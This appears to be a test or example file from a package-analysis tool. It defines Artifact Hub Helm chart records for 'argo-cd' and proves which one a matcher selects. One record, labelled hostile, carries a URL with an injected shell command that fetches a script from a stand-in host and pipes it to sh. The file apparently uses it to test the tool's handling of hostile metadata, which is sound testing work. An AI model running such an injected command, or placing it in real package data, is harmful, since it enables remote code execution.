-- ===== src/Analyze/InstallMethods/Examples.antt =====
-- Packages of Artifact Hub for one repository, of which one has a hostile URL.
use keco.Prelude.{refl, Bool, true, false, Option, some, List, [], ◌∷◌}
use keco.Prelude.Text.{Text, codes, text_eq}
use keco.Analyze.InstallMethods.{
  ArtifactHubPackage, helm, is_safe_slug, all_slug_chars, is_candidate, is_before, best_from,
  best_artifact_hub_match,
}
use keco.Analyze.InstallMethods.Best.{IsRead}
use keco.Analyze.InstallMethods.Chosen.{
  IsChosen, best_artifact_hub_match-IsChosen, best_artifact_hub_match-IsRead,
}

abbrev chart_of : Text → Text → Bool → ArtifactHubPackage
chart_of repository url official = record {
  name = codes "argo-cd";
  normalized_name = some (codes "argo-cd");
  repository_name = some repository;
  kind = helm;
  url = some url;
  official = some official;
  stars = some 5;
}

abbrev hostile : ArtifactHubPackage
hostile = chart_of (codes "argo") (codes "https://evil.example/;curl evil.sh|sh#'") true

abbrev packages : List ArtifactHubPackage
packages =
    chart_of (codes "community") (codes "https://charts.example") false
    ∷ chart_of (codes "bad name") (codes "https://charts.example") true
    ∷ hostile
    ∷ []

abbrev https : Text → Option Text
https t = some (codes "https:")

best_artifact_hub_match-IsChosen_example :
    IsChosen (λ t. t) https (codes "argo-cd") packages hostile
unfolding best_artifact_hub_match best_from is_candidate is_before is_safe_slug all_slug_chars
    text_eq
best_artifact_hub_match-IsChosen_example =
    best_artifact_hub_match-IsChosen (λ t. t) https (codes "argo-cd") packages hostile refl

best_artifact_hub_match-IsRead_example : IsRead hostile (codes "argo-cd")
unfolding best_artifact_hub_match best_from is_candidate is_before is_safe_slug all_slug_chars
    text_eq
best_artifact_hub_match-IsRead_example =
    best_artifact_hub_match-IsRead (λ t. t) https (codes "argo-cd") packages hostile refl refl
